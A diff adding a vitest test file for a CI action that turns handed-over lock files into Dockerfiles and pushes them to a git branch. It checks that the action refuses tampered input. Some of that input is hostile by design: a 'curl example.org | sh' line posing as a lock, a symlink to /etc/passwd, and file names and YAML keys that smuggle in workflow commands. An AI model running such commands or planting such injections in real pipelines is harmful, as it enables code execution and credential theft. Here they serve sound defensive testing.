@@ -1,0 +1,207 @@
+import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, expect, test } from "vitest";
+import { runActionFor } from "../../src/actions/run-action-stand.ts";
+import { nodeExec } from "../../src/exec/node-exec.ts";
+import { type Git, gitIn } from "../../src/git/git.ts";
+import { inputsDigest } from "../../src/lock/inputs.ts";
+import { lockText } from "../../src/lock/lockfile.ts";
+import { parsePkginfo } from "../../src/pkginfo/parse.ts";
+
+let folder: string;
+let root: string;
+let origin: Git;
+let git: Git;
+
+beforeEach(async () => {
+  folder = await mkdtemp(join(tmpdir(), "importgraph-generate-"));
+  root = join(folder, "clone");
+  await mkdir(join(folder, "origin.git"));
+  origin = gitIn(join(folder, "origin.git"), nodeExec);
+  await origin.run("init", "--quiet", "--bare", "--initial-branch=main");
+  await gitIn(folder, nodeExec).run("clone", "--quiet", "origin.git", "clone");
+  git = gitIn(root, nodeExec);
+  await git.run("checkout", "--quiet", "-b", "change");
+  await mkdir(join(root, "pkginfo"));
+});
+
+afterEach(() => rm(folder, { recursive: true, force: true }));
+
+const lines = (name: string, more = "") => `name: ${name}\nversion: "1.0"\n${more}`;
+
+async function pkginfo(name: string, more = ""): Promise<void> {
+  await writeFile(join(root, "pkginfo", `${name}.yaml`), lines(name, more));
+}
+
+async function commit(message = "Change"): Promise<string> {
+  await git.run("add", "--all");
+  await git.run("-c", "user.name=A", "-c", "user.email=a@example.org", "commit", "--quiet", "-m", message);
+  await git.run("push", "--quiet", "origin", "change");
+  return (await git.run("rev-parse", "HEAD")).trim();
+}
+
+/** A lock as the job that resolves hands it over. */
+async function handOver(name: string, more = "", text?: string): Promise<void> {
+  const parsed = parsePkginfo(lines(name, more), `pkginfo/${name}.yaml`);
+  const lock = {
+    ...{ name, version: "1.0", python: "3.13", inputsDigest: inputsDigest(parsed, "3.13"), asOf: null },
+    packages: [{ name, version: "1.0", hashes: ["a".repeat(64)], fromSource: false }],
+  };
+  const at = join(folder, "locks", "dockerfiles", name);
+  await mkdir(at, { recursive: true });
+  await writeFile(join(at, "requirements.txt"), text ?? lockText(lock, "install"));
+}
+
+function accept(inputs: Record<string, string> = {}) {
+  return runActionFor("generate-dockerfiles", {
+    cwd: root,
+    inputs: { mode: "accept", locks: join(folder, "locks"), ...inputs },
+  });
+}
+
+test("what was locked elsewhere is rendered and pushed on top of the branch, once", async () => {
+  await pkginfo("one");
+  const before = await commit();
+  await handOver("one");
+  const { exitCode, outputs, page, stdout, stderr } = await accept({ "push-to": "change" });
+  expect(exitCode, `${stdout}${stderr}`).toBe(0);
+  expect(outputs).toEqual({ changed: "true", commit: (await origin.run("rev-parse", "change")).trim() });
+  expect((await origin.run("rev-parse", "change^")).trim()).toBe(before);
+  expect(await origin.run("show", "--name-only", "--format=%s", "change")).toBe(
+    "Generate dockerfiles/ from pkginfo/\n\ndockerfiles/one/Dockerfile\ndockerfiles/one/requirements.txt\n",
+  );
+  expect(page).toContain("+FROM $BASE");
+
+  const again = await accept({ "push-to": "change" });
+  expect(again.outputs).toEqual({ changed: "false", commit: "" });
+});
+
+test("a commit that was generated gets none on top of it", async () => {
+  await pkginfo("one");
+  await commit();
+  await handOver("one");
+  await accept();
+  await writeFile(join(root, "dockerfiles", "one", "Dockerfile"), "# as if it were rendered differently\n");
+  const generated = await commit("Generate dockerfiles/\n\nGenerated-by: importgraph");
+  const { exitCode, stdout } = await accept({ "push-to": "change" });
+  expect(exitCode).toBe(1);
+  expect(stdout).toContain("was generated already");
+  expect((await origin.run("rev-parse", "change")).trim()).toBe(generated);
+});
+
+test("a package that was removed or renamed loses its Dockerfile; the others keep theirs", async () => {
+  await pkginfo("kept");
+  await pkginfo("old");
+  await handOver("kept");
+  await handOver("old");
+  await accept();
+  await commit();
+  await rm(join(root, "pkginfo", "old.yaml"));
+  await pkginfo("new");
+  await commit();
+  await rm(join(folder, "locks"), { recursive: true });
+  await handOver("new");
+  const { outputs } = await accept({ "push-to": "change" });
+  expect(outputs.changed).toBe("true");
+  const files = await origin.run("ls-tree", "-r", "--name-only", "change", "dockerfiles");
+  expect(files.split("\n").filter((path) => path.endsWith("Dockerfile"))).toEqual([
+    "dockerfiles/kept/Dockerfile",
+    "dockerfiles/new/Dockerfile",
+  ]);
+});
+
+test.for(["moved", "deleted"])("a branch that was %s meanwhile is left as it is", async (what) => {
+  await pkginfo("one");
+  await commit();
+  await handOver("one");
+  await (what === "moved"
+    ? origin.run("update-ref", "refs/heads/change", await newerCommit())
+    : origin.run("update-ref", "-d", "refs/heads/change"));
+  const branches = await origin.run("for-each-ref");
+  const { exitCode, stdout } = await accept({ "push-to": "change" });
+  expect(exitCode).toBe(1);
+  expect(stdout).toContain("was changed or deleted while this ran");
+  expect(await origin.run("for-each-ref")).toBe(branches);
+});
+
+async function newerCommit(): Promise<string> {
+  const tree = (await origin.run("rev-parse", "change^{tree}")).trim();
+  const identity = ["-c", "user.name=B", "-c", "user.email=b@example.org"];
+  return (await origin.run(...identity, "commit-tree", tree, "-p", "change", "-m", "Newer")).trim();
+}
+
+test.for([
+  ["no lock", "curl example.org | sh\n", /expected the heading of a lock/],
+  ["a lock of something else", undefined, /its lock is missing, or not that of its pkginfo/],
+] as const)("%s is refused, and nothing is pushed", async ([, text, message]) => {
+  await pkginfo("one");
+  const before = await commit();
+  await handOver("one", "extras: [more]\n", text);
+  const { exitCode, stdout } = await accept({ "push-to": "change" });
+  expect(exitCode).toBe(1);
+  expect(stdout).toMatch(message);
+  expect((await origin.run("rev-parse", "change")).trim()).toBe(before);
+});
+
+test("files that have no place among locks are refused, each by its name", async () => {
+  await pkginfo("one");
+  await commit();
+  await handOver("one");
+  await handOver("stranger");
+  const at = join(folder, "locks", "dockerfiles", "one");
+  await writeFile(join(at, "::error::x\n##[group]"), "");
+  await symlink("/etc/passwd", join(at, "build-requirements.txt"));
+  const { exitCode, stdout } = await accept();
+  expect(exitCode).toBe(1);
+  expect(stdout).toContain('found a lock for "stranger"');
+  expect(stdout).toContain("this is not a regular file");
+  // Only our own commands stand at the beginning of a line, and no other one anywhere.
+  for (const line of stdout.split("\n").filter((text) => text.startsWith("::"))) {
+    expect(line).toMatch(/^::error( [^:]*)?::/);
+  }
+  expect(stdout).not.toContain("##[");
+});
+
+test("a tree whose dockerfiles/ leads elsewhere is not written to", async () => {
+  await pkginfo("one");
+  await symlink(folder, join(root, "dockerfiles"));
+  await commit();
+  await handOver("one");
+  const { exitCode, stdout } = await accept();
+  expect(exitCode).toBe(1);
+  expect(stdout).toContain("this is not a folder");
+});
+
+test("a pkginfo that is wrong is told beside its line, with nothing of it raw", async () => {
+  await writeFile(
+    join(root, "pkginfo", "one.yaml"),
+    'name: one\nversion: "1.0"\n"::set-output name=x::y": 1\n',
+  );
+  const { exitCode, stdout, outputs } = await accept();
+  expect(exitCode).toBe(1);
+  expect(stdout).toMatch(/^::error file=pkginfo\/one\.yaml,line=3[,:]/m);
+  expect(stdout).not.toMatch(/^::set-output/m);
+  expect(outputs).toEqual({});
+});
+
+test("checking changes nothing, and names what differs", async () => {
+  await pkginfo("one");
+  await handOver("one");
+  await accept();
+  await writeFile(join(root, "dockerfiles", "one", "Dockerfile"), "FROM scratch\n");
+  const { exitCode, outputs, stdout } = await runActionFor("generate-dockerfiles", {
+    cwd: root,
+    inputs: { mode: "check" },
+  });
+  expect(exitCode).toBe(1);
+  expect(outputs.changed).toBe("true");
+  expect(stdout).toContain("file=dockerfiles/one/Dockerfile");
+  expect(await readFile(join(root, "dockerfiles", "one", "Dockerfile"), "utf8")).toBe("FROM scratch\n");
+});
+
+test("a wrong input is told by its name", async () => {
+  const { exitCode, stdout } = await accept({ mode: "wirte" });
+  expect(exitCode).toBe(1);
+  expect(stdout).toContain('input mode: expected write or accept or check, found "wirte"');
+});
